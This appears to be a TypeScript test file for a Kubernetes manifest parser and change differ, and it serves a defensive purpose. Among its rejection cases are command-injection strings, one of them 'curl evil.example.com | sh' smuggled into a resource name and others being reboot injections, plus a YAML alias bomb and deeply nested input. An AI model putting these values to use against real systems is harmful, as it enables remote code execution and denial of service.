import type { ChatSettings } from '../../constructs/settings';
import { textOf } from '../../constructs/synthesis/text';
import { cases } from '../../tests/cases';
import { synthesisOf } from '../../tests/objects';
import { stepsFor } from './next-steps';
import { objectChanges, objectsIn } from './object-changes';

const yamlOf = (settings: ChatSettings) => synthesisOf(settings).manifests.filter(({ text }) => text === undefined);

test('what a run writes is read again', () => {
  for (const manifest of Object.values(cases).flatMap(yamlOf)) {
    expect(objectsIn(textOf(manifest))).toEqual(manifest.objects);
  }
});

/** An object as a file may have it. */
const object = (kind: string, metadata: object, more: object = { spec: {} }, apiVersion = 'v1') =>
  JSON.stringify({ apiVersion, kind, metadata, ...more });

describe('a file that a run may have written is read', () => {
  test.each<[string, string]>([
    ['a kind of one letter', object('A', { name: 'a', namespace: 'chat' })],
    ['a kind of 63 letters', object(`A${'b'.repeat(62)}`, { name: 'a', namespace: 'chat' })],
    ['a version that is no final one', object('Site', { name: 'a' }, {}, 'skupper.io/v2alpha1')],
    ['a version of 22 letters', object('Site', { name: 'a' }, {}, `v1${'a'.repeat(20)}`)],
    ['a group with a dash, a dot and a digit', object('Site', { name: 'a' }, {}, 'k8s-a.example.com/v1')],
    ['a group of 253 letters', object('Site', { name: 'a' }, {}, `${'a'.repeat(253)}/v1`)],
    ['an object without a namespace', object('ClusterRole', { name: 'a' }, {})],
    ['a namespace', object('Namespace', { name: 'chat' }, {})],
    ['a name with a dot', object('Service', { name: 'a.b', namespace: 'chat' })],
    ['a spec that is empty', object('Service', { name: 'a', namespace: 'chat' }, { spec: {} })],
  ])('%s', (_, text) => {
    expect(objectsIn(text)).toEqual([JSON.parse(text)]);
  });

  test('several objects, and documents with nothing in them', () => {
    const [one, two] = [object('A', { name: 'a' }), object('B', { name: 'b' })];
    expect(objectsIn(`---\n# nothing\n---\n${one}\n---\n${two}\n---\n`)).toEqual([JSON.parse(one), JSON.parse(two)]);
  });

  test('nothing at all', () => {
    expect(objectsIn('# nothing\n')).toEqual([]);
  });
});

describe('a file that no run wrote is not read, so no command is made of it', () => {
  test.each([
    ['a name with a command in it', object('Service', { name: 'x; curl evil.example.com | sh #', namespace: 'chat' })],
    ['a name that is an option', object('Service', { name: '--all', namespace: 'chat' })],
    ['a name of several lines', object('Service', { name: 'a\n::error::b', namespace: 'chat' })],
    ['a kind with a command in it', object('Service;reboot', { name: 'a', namespace: 'chat' })],
    ['a kind that is an option', object('-A', { name: 'a', namespace: 'chat' })],
    ['a group with a command in it', object('Route', { name: 'a', namespace: 'chat' }, { spec: {} }, '$(reboot)/v1')],
    ['a namespace with a command in it', object('Service', { name: 'a', namespace: 'chat && reboot' })],
    ["the cluster's own namespace", object('Namespace', { name: 'kube-system' }, {})],
    ["an object in the cluster's own namespace", object('Service', { name: 'kube-dns', namespace: 'kube-system' })],
    ['a kind of 64 letters', object(`A${'b'.repeat(63)}`, { name: 'a', namespace: 'chat' })],
    ['a kind with something before it', object(' Service', { name: 'a', namespace: 'chat' })],
    ['a kind that begins with a small letter', object('service', { name: 'a', namespace: 'chat' })],
    ['a version with something before it', object('Site', { name: 'a' }, {}, ' v1')],
    ['a version with something behind it', object('Site', { name: 'a' }, {}, 'v1;')],
    ['a version without a number', object('Site', { name: 'a' }, {}, 'v')],
    ['a version of 23 letters', object('Site', { name: 'a' }, {}, `v1${'a'.repeat(21)}`)],
    ['a group of 254 letters', object('Site', { name: 'a' }, {}, `${'a'.repeat(254)}/v1`)],
    ['a group that is empty', object('Site', { name: 'a' }, {}, '/v1')],
    ['a group in capitals', object('Site', { name: 'a' }, {}, 'A/v1')],
    ['a namespace with a dot', object('Namespace', { name: 'a.b' }, {})],
    ['one of two that is none', `${object('A', { name: 'a' })}\n---\na`],
    ['nothing to be called by', '{ apiVersion: v1, kind: A }'],
    ['a spec that is nothing', object('Deployment', { name: 'a', namespace: 'chat' }, { spec: null })],
    ['a name that is none', object('Service', { name: ['a'], namespace: 'chat' })],
    ['a spec that is none', object('Deployment', { name: 'a', namespace: 'chat' }, { spec: 'a' })],
    ['a list', '- a'],
    ['a text', 'a'],
    ['no YAML', 'a: [1'],
    ['a thousand levels', `a: ${'['.repeat(100_000)}`],
  ])('%s', (_, text) => {
    expect(objectsIn(text)).toBeUndefined();
  });

  test('aliases that make more of it than anybody can read', () => {
    const bomb = Array.from({ length: 30 }, (_, level) =>
      level === 0 ? 'l0: &l0 [x, x]' : `l${level}: &l${level} [*l${level - 1}, *l${level - 1}]`,
    );
    const head = 'apiVersion: v1\nkind: Service\nmetadata: { name: a, namespace: chat }\nspec: {}\n';
    expect(objectsIn(`${head}${bomb.join('\n')}`)).toBeUndefined();
    expect(objectsIn(`${head}a: &a [*a]`)).toBeUndefined();
    expect(objectsIn(`${head}a: &a ${'x'.repeat(10_000)}\nb: [${Array(1000).fill('*a').join(', ')}]`)).toBeUndefined();
  });
});

test('steps are found from an old object without its spec to the new one', () => {
  for (const { manifests } of Object.values(cases).map((settings) => synthesisOf(settings))) {
    const now = manifests.flatMap(({ objects }) => objects);
    const before = now.map(({ spec: _, ...rest }) => rest);
    const { changed } = objectChanges(before, now);
    expect(changed).toHaveLength(now.filter(({ spec }) => spec !== undefined).length);
    expect(stepsFor({ added: [], changed, gone: [] }, manifests)).toBeDefined();
    expect(stepsFor({ added: now, changed: [], gone: before }, manifests)).toBeDefined();
  }
});

describe('what is different', () => {
  const of = (spec: object, metadata: object = {}) => ({
    apiVersion: 'v1',
    kind: 'A',
    metadata: { name: 'a', ...metadata },
    spec,
  });
  const between = (before: ReturnType<typeof of>, after: ReturnType<typeof of>) =>
    objectChanges([before], [after]).changed.flatMap(({ fields }) => fields);

  test.each<[string, object, object, string[]]>([
    ['nothing', { a: 1 }, { a: 1 }, []],
    ['a number', { a: 1 }, { a: 2 }, ['spec.a: 1 → 2']],
    ['a text', { a: 'b' }, { a: 'c' }, ['spec.a: "b" → "c"']],
    ['a value that comes', {}, { a: true }, ['spec.a: nothing → true']],
    ['a value that goes', { a: false }, {}, ['spec.a: false → nothing']],
    ['a value that is null', { a: null }, { a: 1 }, ['spec.a: null → 1']],
    ['a group that comes', {}, { a: { b: 1 } }, ['spec.a: added']],
    ['a group that goes', { a: { b: 1 } }, {}, ['spec.a: removed']],
    ['a group in place of a value', { a: 1 }, { a: { b: 1 } }, ['spec.a: replaced']],
    ['a value in place of a group', { a: { b: 1 } }, { a: 1 }, ['spec.a: replaced']],
    ['a list in place of a group', { a: { b: 1 } }, { a: [1] }, ['spec.a: replaced']],
    [
      'a part of a list',
      { a: [1, { b: 2 }] },
      { a: [1, { b: 3 }, 4] },
      ['spec.a[1].b: 2 → 3', 'spec.a[2]: nothing → 4'],
    ],
    ['the pods', { template: { spec: { a: 1 } } }, { template: { spec: { a: 2 } } }, ['pod.a: 1 → 2']],
    [
      'of something with pods in it',
      { a: { spec: { template: { spec: { b: 1 } } } } },
      { a: { spec: { template: { spec: { b: 2 } } } } },
      ['spec.a.spec.template.spec.b: 1 → 2'],
    ],
    ['a path of 60 letters', { ['a'.repeat(55)]: 1 }, { ['a'.repeat(55)]: 2 }, [`spec.${'a'.repeat(55)}: 1 → 2`]],
    [
      'a longer path',
      { ['a'.repeat(30)]: { ['b'.repeat(24)]: { c: 1 } } },
      { ['a'.repeat(30)]: { ['b'.repeat(24)]: { c: 2 } } },
      [`….${'a'.repeat(30)}.${'b'.repeat(24)}.c: 1 → 2`],
    ],
    ['a longer path in a list', { ['a'.repeat(60)]: [1] }, { ['a'.repeat(60)]: [2] }, ['…[0]: 1 → 2']],
  ])('%s', (_, before, after, expected) => {
    expect(between(of(before), of(after))).toEqual(expected);
  });

  test('labels and annotations are known without what they are in', () => {
    const [before, after] = [
      of({}, { labels: { 'a/b': 'c' }, annotations: { d: '1' } }),
      of({}, { labels: {}, annotations: { d: '2' } }),
    ];
    expect(between(before, after)).toEqual(['labels["a/b"]: "c" → nothing', 'annotations.d: "1" → "2"']);
    expect(between(of({ metadata: { labels: 1 } }), of({ metadata: { labels: 2 } }))).toEqual([
      'spec.metadata.labels: 1 → 2',
    ]);
  });

  test('an object is new, gone, or the same under another version', () => {
    const one = (apiVersion: string, name: string) => ({ apiVersion, kind: 'A', metadata: { name } });
    const { added, changed, gone } = objectChanges(
      [one('a/v1', 'a'), one('a/v1', 'b')],
      [one('a/v2', 'a'), one('b/v1', 'b')],
    );
    expect(changed.map(({ fields }) => fields)).toEqual([['apiVersion: "a/v1" → "a/v2"']]);
    expect([added, gone]).toEqual([[one('b/v1', 'b')], [one('a/v1', 'b')]]);
  });
});
